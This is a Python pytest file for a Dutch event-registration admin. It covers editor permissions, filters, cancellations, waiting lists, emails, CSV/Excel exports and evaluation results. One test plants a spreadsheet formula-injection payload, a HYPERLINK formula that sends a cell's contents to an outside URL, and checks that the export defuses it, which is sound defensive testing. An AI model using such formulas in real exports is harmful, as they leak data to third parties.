"""Editors' registrations in /beheer/: the listing, history, actions, export and message."""

import csv
import io
import re
from typing import Any

import pytest
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format
from openpyxl import load_workbook
from wagtail import hooks

from core.models import Role
from events import services
from events.models import Registration, Session
from events.models import RegistrationState as State
from events.wagtail_hooks import event_page_buttons, fill_seats_after_publishing

from .factories import create_event, create_user

HOST: dict[str, Any] = {"HTTP_HOST": "groningen.localhost"}
INDEX = reverse("events_registration:index")
QUERIES_OF_THE_LISTING = 10


@pytest.fixture
def editor(django_user_model):
    return django_user_model.objects.create_superuser("editor", "editor@example.org", "x")


@pytest.fixture
def full_session(session):
    """Two seats taken (a, b), two people waiting (c, d)."""
    for name in "abcd":
        services.register_user(session=session, user=create_user(name))
    return session


def registration_of(name: str) -> Registration:
    return Registration.objects.get(user__username=name)


def test_only_editors_reach_the_registrations(client: Client, full_session, editor):
    assert client.get(INDEX, **HOST).status_code == 302  # to the log-in
    client.force_login(create_user("professional"))
    response = client.get(INDEX, **HOST)
    assert response.status_code == 302 and "login" in response["Location"]
    cancel_url = reverse("events_registration:cancel", args=[registration_of("a").pk])
    assert client.post(cancel_url, **HOST).status_code == 302
    assert registration_of("a").state == State.CONFIRMED

    # Into the admin, but without the right to change registrations.
    staff = create_user("staff")
    staff.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(staff)
    refused = client.get(INDEX, **HOST)  # Wagtail sends them to the admin's home page
    assert refused.status_code == 302 and refused["Location"] == "/beheer/"
    assert client.post(cancel_url, **HOST)["Location"] == "/beheer/"
    assert registration_of("a").state == State.CONFIRMED

    group = Group.objects.create(name="Inschrijvingen")
    group.permissions.add(
        Permission.objects.get(codename="change_registration", content_type__app_label="events")
    )
    staff.groups.add(group)
    response = client.get(INDEX, **HOST)
    assert response.status_code == 200
    assert "a@example.org" in response.text


def test_listing_filters_by_session_and_state(
    client: Client, full_session, editor, catalogue, regions
):
    other = create_event(catalogue, slug="webinar", regions=regions, kind="webinar")
    services.register_user(session=other.sessions.get(), user=create_user("zed"))
    client.force_login(editor)
    response = client.get(INDEX, {"session": full_session.pk, "state": "waiting"}, **HOST)
    assert response.status_code == 200
    listed = {r.user.username for r in response.context["object_list"]}
    assert listed == {"c", "d"}
    assert reverse("events_registration:message", args=[full_session.pk]) in response.text


def test_the_filters_name_the_event_and_each_session_by_event_and_date(
    client: Client, catalogue, regions, editor
):
    event = create_event(catalogue, regions=regions, sessions=2)
    first, second = event.sessions.order_by("starts_at")
    second.title = "Dag 2"
    second.save()
    # Sessions without an event: a track's group, which people register for, and one of its
    # days, which nobody registers for (the group holds the registrations).
    group = Session.objects.create(
        title="Driedaagse leergang (Groep voorjaar)",
        starts_at=first.starts_at,
        ends_at=first.ends_at,
        capacity=5,
    )
    services.register_user(session=group, user=create_user("sanne"))
    Session.objects.create(starts_at=first.starts_at, ends_at=first.ends_at, capacity=5)
    client.force_login(editor)

    form = client.get(INDEX, **HOST).context["filters"].form
    labels = [str(field.label) for field in form.fields.values()]
    assert labels == ["Evenement", "Bijeenkomst", "Status"]
    assert [label for _value, label in form.fields["event"].choices][1:] == [event.title]

    def when(session: Session) -> str:
        return date_format(timezone.localtime(session.starts_at), "l j F Y, H:i")

    sessions = [label for _value, label in form.fields["session"].choices][1:]
    assert sorted(sessions) == sorted(
        [
            f"Training bejegening — {when(first)}",
            f"Training bejegening: Dag 2 — {when(second)}",
            f"Driedaagse leergang (Groep voorjaar) — {when(group)}",
        ]
    )
    # In Dutch, as people say it: "Training bejegening — dinsdag 2 maart 2027, 09:30".
    [plain] = [label for label in sessions if label.startswith("Training bejegening — ")]
    assert re.fullmatch(r"Training bejegening — \w+dag \d+ [a-z]+ \d{4}, \d\d:\d\d", plain)


@pytest.mark.parametrize("count", [10, 500])
def test_the_session_filter_costs_one_query_however_many_sessions(
    client: Client, catalogue, regions, editor, count, django_assert_num_queries
):
    # Ten events share the sessions: event pages are slow to build, sessions are not.
    for number in range(10):
        create_event(catalogue, slug=f"event-{number}", regions=regions, sessions=count // 10)
    services.register_user(session=Session.objects.all()[0], user=create_user("sanne"))
    client.force_login(editor)
    client.get(INDEX, **HOST)  # warm the caches
    with django_assert_num_queries(QUERIES_OF_THE_LISTING):
        response = client.get(INDEX, **HOST)
    assert len(response.context["filters"].form.fields["session"].choices) == count + 1


def test_history_shows_who_did_what_and_why(client: Client, full_session, editor):
    client.force_login(editor)
    registration = registration_of("b")
    client.post(
        reverse("events_registration:cancel", args=[registration.pk]),
        {"reason": "Ziek gemeld"},
        **HOST,
    )
    response = client.get(reverse("events_registration:inspect", args=[registration.pk]), **HOST)
    assert response.status_code == 200
    assert "Ziek gemeld" in response.text and "Afgemeld" in response.text
    assert "editor@example.org" in response.text


def test_cancel_by_an_editor_gives_the_seat_to_the_first_waiting(
    client: Client, full_session, editor
):
    client.force_login(editor)
    response = client.post(
        reverse("events_registration:cancel", args=[registration_of("a").pk]),
        {"reason": "Belde af"},
        **HOST,
    )
    assert response.status_code == 302
    assert registration_of("a").state == State.CANCELLED
    assert registration_of("c").state == State.CONFIRMED
    assert registration_of("d").state == State.WAITING
    change = registration_of("a").changes.last()
    assert change is not None and change.actor == editor and change.reason == "Belde af"


def test_move_to_another_session_of_the_event(client: Client, editor, catalogue, regions):
    event = create_event(catalogue, slug="twee-dagen", regions=regions, sessions=2, capacity=5)
    first, second = event.sessions.order_by("starts_at")
    registration, _ = services.register_user(session=first, user=create_user("sanne"))
    client.force_login(editor)
    url = reverse("events_registration:move", args=[registration.pk])
    assert client.get(url, **HOST).status_code == 200
    client.post(url, {"to_session": second.pk}, **HOST)
    registration.refresh_from_db()
    assert registration.state == State.CANCELLED
    assert Registration.objects.get(session=second).state == State.CONFIRMED
    # Another event's session is not a choice.
    other = create_event(catalogue, slug="ander", regions=regions).sessions.get()
    moved = Registration.objects.get(session=second)
    response = client.post(
        reverse("events_registration:move", args=[moved.pk]), {"to_session": other.pk}, **HOST
    )
    assert response.status_code == 200 and response.context["form"].errors
    assert not Registration.objects.filter(session=other).exists()


def test_add_by_hand_links_an_account_or_takes_a_visitor(client: Client, session, editor):
    client.force_login(editor)
    url = reverse("events_registration:add")
    account = create_user("sanne")
    client.post(url, {"session": session.pk, "email": "SANNE@example.org"}, **HOST)
    added = Registration.objects.get(user=account)
    assert added.state == State.CONFIRMED and added.changes.last().actor == editor  # type: ignore[union-attr]

    response = client.post(url, {"session": session.pk, "email": "piet@example.org"}, **HOST)
    assert response.status_code == 200
    assert "Vul de naam in" in response.text

    client.post(url, {"session": session.pk, "email": "piet@example.org", "name": "Piet"}, **HOST)
    assert Registration.objects.get(email="piet@example.org").state == State.CONFIRMED

    response = client.post(url, {"session": session.pk, "email": "sanne@example.org"}, **HOST)
    assert "al ingeschreven" in response.text  # the service's error, as a form error


def test_fill_free_seats_and_publishing_more_seats(client: Client, full_session, editor):
    client.force_login(editor)
    type(full_session).objects.filter(pk=full_session.pk).update(capacity=3)
    url = reverse("events_registration:fill_seats", args=[full_session.pk])
    assert "1 plaats is vrij" in client.get(url, **HOST).text
    client.post(url, **HOST)
    assert registration_of("c").state == State.CONFIRMED
    assert registration_of("d").state == State.WAITING

    # An editor raises the seats on the event page and publishes it.
    type(full_session).objects.filter(pk=full_session.pk).update(capacity=4)
    assert fill_seats_after_publishing in hooks.get_hooks("after_publish_page")
    request = RequestFactory().post("/")
    request.user = editor
    fill_seats_after_publishing(request, full_session.event)
    assert registration_of("d").state == State.CONFIRMED


def test_message_to_the_confirmed_participants(
    client: Client, full_session, editor, django_capture_on_commit_callbacks
):
    client.force_login(editor)
    url = reverse("events_registration:message", args=[full_session.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            url, {"subject": "Andere zaal", "body": "We zitten in zaal 2."}, **HOST
        )
    assert response.status_code == 302
    sent = [m for m in mail.outbox if m.subject == "Andere zaal"]
    assert sorted(m.to[0] for m in sent) == ["a@example.org", "b@example.org"]
    assert "We zitten in zaal 2." in str(sent[0].body)

    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            url,
            {"subject": "Wachtlijst", "body": "Ook voor jullie.", "include_waiting_list": "on"},
            **HOST,
        )
    assert len([m for m in mail.outbox if m.subject == "Wachtlijst"]) == 4


def test_export_per_session_to_csv_and_excel(client: Client, full_session, editor):
    client.force_login(editor)
    response = client.get(INDEX, {"session": full_session.pk, "export": "csv"}, **HOST)
    assert response.status_code == 200
    day = f"{timezone.localtime(full_session.starts_at):%d-%m-%Y}"
    assert response["Content-Disposition"] == (
        f'attachment; filename="inschrijvingen-training-bejegening-{day}.csv"'
    )
    assert response.getvalue().startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Bijeenkomst", "Naam", "E-mailadres"]
    assert {row[2] for row in rows[1:]} == {f"{n}@example.org" for n in "abcd"}
    assert "Op de wachtlijst" in {row[5] for row in rows[1:]}
    registered = timezone.localtime(registration_of("a").created_at)
    assert f"{registered:%d-%m-%Y %H:%M}" in {row[6] for row in rows[1:]}

    response = client.get(INDEX, {"session": full_session.pk, "export": "xlsx"}, **HOST)
    assert response["Content-Disposition"].endswith(f'-{day}.xlsx"')
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet is not None and sheet.max_row == 5
    created = sheet.cell(row=2, column=7)
    assert created.number_format == "dd-mm-yyyy hh:mm"
    assert created.value.tzinfo is None and created.value.microsecond == 0
    assert created.value in {
        timezone.localtime(r.created_at).replace(tzinfo=None, microsecond=0)
        for r in Registration.objects.all()
    }


def test_export_neutralises_the_formulas_a_visitor_plants(client: Client, full_session, editor):
    """Anyone can register with a name that Excel would run as a formula."""
    formula = '=HYPERLINK("https://example.org/?"&A1;"Klik")'
    response = client.post(
        reverse("events:register", args=[full_session.pk]),
        {
            "name": formula,
            "email": "vera@example.org",
            "organisation_name": "@SUM(1+1)",
            "role": Role.objects.get().pk,
        },
        **HOST,
    )
    assert response.status_code == 200 and Registration.objects.filter(name=formula).exists()
    client.force_login(editor)

    response = client.get(INDEX, {"session": full_session.pk, "export": "csv"}, **HOST)
    rows = csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";")
    [planted] = [row for row in rows if row[2] == "vera@example.org"]
    assert planted[1:4] == ["'" + formula, "vera@example.org", "'@SUM(1+1)"]

    response = client.get(INDEX, {"session": full_session.pk, "export": "xlsx"}, **HOST)
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet is not None
    [planted] = [row[1:4] for row in sheet.iter_rows() if row[2].value == "vera@example.org"]
    assert [cell.value for cell in planted] == ["'" + formula, "vera@example.org", "'@SUM(1+1)"]
    assert {cell.data_type for cell in planted} == {"s"}


def test_evaluation_results_per_event(client: Client, session, editor):
    answers = [
        {"q0": "4", "q1": "5", "q2": "Vaker doorvragen.", "q3": ""},
        {"q0": "5", "q1": "3", "q2": "", "q3": "Meer pauze."},
    ]
    for name, given in zip("ab", answers, strict=True):
        registration, _ = services.register_user(session=session, user=create_user(name))
        registration = services.mark_attendance(
            registration=registration, state=State.ATTENDED, actor=editor
        )
        services.submit_evaluation(registration=registration, user=registration.user, answers=given)
    results = session.event.evaluation_results()
    assert (results.responses, results.attended) == (2, 2)
    usefulness, trainer, differently, better = results.questions
    assert (usefulness.average, usefulness.count) == (4.5, 2)
    assert trainer.distribution == [(1, 0), (2, 0), (3, 1), (4, 0), (5, 1)]
    assert differently.answers == ["Vaker doorvragen."] and better.answers == ["Meer pauze."]

    url = reverse("events_registration:evaluation_results", args=[session.event.pk])
    client.force_login(create_user("professional"))
    assert client.get(url, **HOST).status_code == 302
    client.force_login(editor)
    response = client.get(url, **HOST)
    assert response.status_code == 200
    assert "Gemiddeld 4,5 van de 5 (2 antwoorden)" in response.text
    assert "Vaker doorvragen." in response.text and "Meer pauze." in response.text
    # Reachable from the page tree and from the registrations of the event.
    buttons = event_page_buttons(session.event, editor)
    assert [button.url for button in buttons][1] == url
    assert event_page_buttons(session.event, create_user("stranger")) == []
    listing = client.get(INDEX, {"event": session.event.pk}, **HOST)
    assert url in listing.text
